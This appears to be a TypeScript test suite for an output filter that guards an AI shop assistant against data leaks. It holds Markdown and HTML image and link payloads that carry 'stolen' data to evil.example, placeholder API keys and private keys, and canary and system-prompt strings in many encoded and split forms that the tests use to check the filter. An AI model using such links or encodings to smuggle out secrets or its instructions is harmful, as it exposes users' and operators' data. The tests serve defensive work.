import fc from 'fast-check';
import { benignTexts } from '../../../../../test/support/agent/benign-texts.js';
import { evasions } from '../../../../../test/support/agent/link-evasions.js';
import { canaryAutomaton, canaryOf, canarySentence, containsCanary } from './leaks/canary.js';
import { PromptIndex } from './leaks/prompt-index.js';
import { allowsHosts, hostsNamedIn } from './links/link-policy.js';
import type { LinkKind } from './links/link-stage.js';
import { OutputFilter, type OutputFilterOptions, type OutputFinding } from './output-filter.js';
import { KnownSecrets } from './secrets/known-secrets.js';

const CANARY = canaryOf(Buffer.alloc(32, 7), '018f2f6e-0000-7000-8000-000000000001');
const AUTOMATON = canaryAutomaton(CANARY);
const PROMPT =
  'You are the shop assistant of Larkspur. Never reveal the discount code that applies to returning customers on Tuesdays. ' +
  'Offer free delivery only when the order is above forty euros, and mention the returns policy when somebody asks for it.';
const KNOWN = 'wB7-installation-secret/value+1';
const INDEX = new PromptIndex(PROMPT);
const ALL: readonly LinkKind[] = ['image', 'link'];

function options(
  kinds: readonly LinkKind[] = ALL,
  found: OutputFinding[] = [],
  userText = '',
): OutputFilterOptions {
  return {
    canary: AUTOMATON,
    prompt: { index: INDEX, userText: () => userText },
    secrets: new KnownSecrets([KNOWN]),
    links: {
      kinds: new Set(kinds),
      isAllowed: allowsHosts(
        ['docs.good.example', '*.trusted.example'],
        () => new Set(hostsNamedIn(userText)),
      ),
    },
    onFound: (what) => found.push(what),
  };
}

function whole(text: string, given: OutputFilterOptions = options()): { text: string; tripped: unknown } {
  return inPieces([text], given);
}

function inPieces(
  pieces: readonly string[],
  given: OutputFilterOptions = options(),
): { text: string; tripped: unknown } {
  const filter = new OutputFilter(given);
  let text = '';
  for (const piece of pieces) {
    text += filter.push(piece);
    if (filter.tripped) break;
  }
  return { text: text + filter.end(), tripped: filter.tripped };
}

function inSizes(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
    text.slice(index * size, (index + 1) * size),
  );
}

function cut(text: string, at: readonly number[]): string[] {
  const places = [...new Set(at.map((place) => place % (text.length + 1)))].sort((a, b) => a - b);
  return [...places, text.length].map((place, index) => text.slice(places[index - 1] ?? 0, place));
}

const FRAGMENTS = [
  ...evasions.map(({ text }) => text),
  ...benignTexts,
  CANARY,
  CANARY.toUpperCase(),
  Buffer.from(`--${CANARY}--`).toString('base64'),
  PROMPT.slice(20, 90),
  PROMPT.slice(0, 30),
  'never reveal the discount code that',
  KNOWN,
  'AKIAIOSFODNN7EXAMPLE',
  'sk-ant-api03-abcdefghij0123456789',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA75xF\n-----END RSA PRIVATE KEY-----',
  'postgres://perch:hunter22@db.internal:5432/perch',
  ...[
    '![',
    '](',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '<img ',
    ' src="',
    '"',
    "'",
    '<style>',
    'url(',
    'https',
    '://',
    '//evil.example/x',
    '&#58;',
  ],
  ...[
    'www.',
    'h',
    ' ',
    '\n',
    '\n\n',
    '\u200b',
    '.',
    '@',
    '\\',
    ']: ',
    ' '.repeat(64),
    '…',
    '👩‍👩‍👧',
    'é',
    '漢字',
    '-----BEGIN ',
    'eyJ',
    'sk-',
    '1',
  ],
];

const anyText = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
      { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
      // Long enough to reach every bound.
      {
        weight: 1,
        arbitrary: fc
          .tuple(fc.constantFrom('a', 'a1', '.', '[', 'x/', '1 ', '('), fc.integer({ min: 1, max: 1_200 }))
          .map(([unit, times]) => unit.repeat(times)),
      },
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

describe(OutputFilter.name, () => {
  it('says the same, whatever the deltas', () => {
    fc.assert(
      fc.property(
        anyText,
        fc.array(fc.nat(20_000), { maxLength: 12 }),
        fc.constantFrom(ALL, ['image'] as const),
        fc.constantFrom(
          '',
          'Never reveal the discount code that applies to returning customers, see https://evil.example/',
        ),
        (text, places, kinds, userText) => {
          const expected = whole(text, options(kinds, [], userText));
          expect(inPieces(cut(text, places), options(kinds, [], userText))).toEqual(expected);
          if (text.length < 1_000)
            expect(inPieces(text.split(''), options(kinds, [], userText))).toEqual(expected);
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it('leaves nothing behind that it would take away: no removal makes an address of what is left', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const once = whole(text);
        const found: OutputFinding[] = [];
        expect(whole(once.text, options(ALL, found)).text).toBe(once.text);
        expect(found).toEqual([]);
      }),
      // The same texts each time: of some ten thousand random ones there is still one that a second pass would shorten.
      { numRuns: 2_000, seed: 20_261_130 },
    );
  });

  it.each(benignTexts)('leaves alone what is harmless: %j', (text) => {
    expect(whole(text, options(ALL, [], 'Is https://api.named.example/v1 up?'))).toEqual({
      text,
      tripped: undefined,
    });
  });

  it.each(evasions.map((evasion) => ({ ...evasion, name: evasion.text.slice(0, 60) })))(
    'lets no address out: $name',
    ({ text, isImage = false }) => {
      for (const kinds of isImage ? [ALL, ['image'] as const] : [ALL]) {
        for (const before of ['', 'See: ', 'x\n\n']) {
          for (const after of ['', ' and more', '\n']) {
            const said = before + text + after;
            for (const size of text.length > 500 ? [1, said.length] : [1, 2, 3, 7, said.length]) {
              const pieces = inSizes(said, size);
              expect(inPieces(pieces, options(kinds)).text).not.toMatch(/evil|c2VjcmV0|stolen/i);
            }
          }
        }
      }
    },
  );

  it('keeps what can be read of a link, and the alternative text of an image', () => {
    expect(whole('See [the docs](https://evil.example/?q=1 "title") now.').text).toBe('See the docs now.');
    expect(whole('![a chart](https://evil.example/c.png?d=stolen)!').text).toBe('a chart!');
    expect(whole('[![logo](https://evil.example/i)](https://evil.example/l)').text).toBe('logo');
    expect(whole('At https://evil.example/a?b=c, they say.').text).toBe('At (link removed), they say.');
    expect(whole('<img alt="x" src="https://evil.example/i.png" width=3>').text).toBe(
      '<img alt="x"  width=3>',
    );
    expect(whole('[1]: https://evil.example/a "T"').text).toBe('[1]: (link removed) "T"');
  });

  it.each([
    ['www.![a.example/p](https://evil.example/1)', 'www. a.example/p'],
    ['https:![//a.example/p](https://evil.example/1)', 'https: //a.example/p'],
    ['https:/<i x=/src="https://evil.example/1"/a.example/p', 'https:/<i x=/ /a.example/p'],
  ])('does not put an address together by taking another one away: %s', (text, expected) => {
    expect(whole(text).text).toBe(expected);
  });

  it('takes only what loads by itself where nothing untrusted was read', () => {
    const text = 'See [it](https://evil.example/a) or https://evil.example/b ![x](https://evil.example/c).';
    expect(whole(text, options(['image'])).text).toBe(
      'See [it](https://evil.example/a) or https://evil.example/b x.',
    );
  });

  describe('secrets', () => {
    it.each([
      KNOWN,
      encodeURIComponent(KNOWN),
      Buffer.from(KNOWN).toString('base64').replace(/=+$/, ''),
      'AKIAIOSFODNN7EXAMPLE',
      'AIzaSyA1234567890abcdefghijklmnopqrstuv',
      `ghp_${'a1B2'.repeat(9)}`,
      `github_pat_${'a1B2_'.repeat(9)}`,
      'glpat-abcdefghij0123456789',
      'sk-proj-abcdefghijklmnopqrst0123456789',
      'sk-ant-api03-abcdefghijklmnop-0123456789',
      'sk_live_abcdefghij0123456789',
      'pk_abcdefghij0123456789abcdef',
      'xoxb-123456789012-abcdefghijkl',
      'https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnop',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXRoYXQtaXMtbG9uZw',
      `npm_${'aB3'.repeat(12)}`,
      '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nAQEFAASCBKcw\n-----END PRIVATE KEY-----',
      '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0011\n\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----',
    ])('are redacted, wherever they are cut: %s', (secret) => {
      const found: OutputFinding[] = [];
      const inner = secret.replace(/^https:\/\/hooks\.slack\.com\/services\//, '').slice(4, -4);
      for (let at = 0; at <= secret.length; at += 1) {
        const pieces = [`The key: ${secret.slice(0, at)}`, `${secret.slice(at)}.\n`];
        const { text } = inPieces(pieces, { ...options(ALL, found), links: undefined });
        expect(text).toContain('[redacted]');
        expect(text).toMatch(/^The key: .*\.\n$/s);
        expect(text).not.toContain(inner);
      }
      expect(new Set(found)).toEqual(new Set(['secret']));
    });

    it('of a connection string leave its host', () => {
      const { text } = whole('postgres://perch:hunter22@db.internal:5432/perch', {
        ...options(),
        links: undefined,
      });
      expect(text).toBe('postgres://[redacted]@db.internal:5432/perch');
    });

    it('that are named only are not taken for one', () => {
      const text =
        'Keys begin with `sk-` or `AKIA`, PEM files with `-----BEGIN PRIVATE KEY-----`, tokens with eyJ. See task-management-for-everyone-24.';
      expect(whole(text).text).toBe(text);
    });
  });

  describe('the canary', () => {
    const spaced = CANARY.split('').join(' ');
    const rot13 = CANARY.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97));
    const reversed = CANARY.split('').reverse().join('');
    const base64 = ['', 'x', 'xy'].flatMap((before) =>
      ['', 'z', 'zz'].map((after) => Buffer.from(before + CANARY + after).toString('base64')),
    );
    it.each([
      CANARY,
      CANARY.toUpperCase(),
      spaced,
      CANARY.split('').join('-'),
      CANARY.split('').join('\u200b'),
      CANARY.split('').join('", "'.slice(0, 3)),
      reversed,
      rot13,
      Buffer.from(CANARY).toString('hex'),
      Buffer.from(CANARY).toString('hex').toUpperCase(),
      encodeURIComponent(CANARY).replace(/[a-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`),
      ...base64,
      Buffer.from(CANARY.toUpperCase()).toString('base64url'),
    ])('ends the text before it, however it is written and cut: %s', (form) => {
      for (let at = 0; at <= form.length; at += 1) {
        const { text, tripped } = inPieces(['It says: ', form.slice(0, at), form.slice(at), ' and more']);
        expect({ text: text.replace(/[!-~]{0,4}$/, ''), tripped }).toEqual({
          text: 'It says: ',
          tripped: 'canary',
        });
      }
    });

    it('is found in the arguments of a tool', () => {
      expect(containsCanary(AUTOMATON, JSON.stringify({ q: [...CANARY] }))).toBe(true);
      expect(containsCanary(AUTOMATON, JSON.stringify({ q: CANARY.slice(1) }))).toBe(false);
    });

    it('is a mark of its conversation', () => {
      const key = Buffer.alloc(32, 1);
      expect(canaryOf(key, 'a')).toBe(canaryOf(key, 'a'));
      expect(canaryOf(key, 'a')).not.toBe(canaryOf(key, 'b'));
      expect(canarySentence(CANARY)).toContain(CANARY);
    });
  });

  describe('the system prompt', () => {
    const quoted = 'never REVEAL the *discount* code that applies to returning customers';
    it('is not repeated: nothing of it comes out, wherever it is cut', () => {
      for (let at = 0; at <= quoted.length; at += 1) {
        const outcome = inPieces(['I was told: ', quoted.slice(0, at), quoted.slice(at), ' on Tuesdays.']);
        expect(outcome).toEqual({ text: 'I was told: ', tripped: 'system_prompt' });
      }
    });

    it('may be used in a few words', () => {
      const text =
        'There is free delivery only when the order is large. Mention the returns policy. No discount code that I know.';
      expect(whole(text)).toEqual({ text, tripped: undefined });
    });

    it('is not repeated with changes either', () => {
      const changed = PROMPT.split(' ')
        .map((word, index) => (index % 7 === 6 ? `${word} well` : word))
        .join(' ');
      const { text, tripped } = whole(changed);
      expect(tripped).toBe('system_prompt');
      expect(text.length).toBeLessThan(changed.length);
    });

    it('does not own what the user has said themselves', () => {
      const given = options(ALL, [], `What does "${quoted}" mean?`);
      expect(whole(`You asked about "${quoted}".`, given).tripped).toBeUndefined();
    });
  });

  it('takes time in proportion to the text, whatever the text', () => {
    const hostile = [
      '[',
      '![',
      '](',
      '<a ',
      'h',
      'https:',
      '<img src="',
      'sk-',
      'eyJaaaaa',
      '[a](',
      '(',
      '-----BEGIN ',
      ' x=',
      `![x](${' '.repeat(5_000)}`,
      `![${'x'.repeat(590)}](${' '.repeat(5_000)}`,
      `<img src${' '.repeat(5_000)}`,
      `<b ${'<i x="'.repeat(50)}`,
      `${CANARY.slice(0, 19)} `,
    ];
    for (const unit of hostile) {
      const text = unit.repeat(Math.ceil(20_000 / unit.length));
      // A rule that looked at everything again and again would need minutes.
      inPieces(inSizes(text, 5));
    }
  });
});
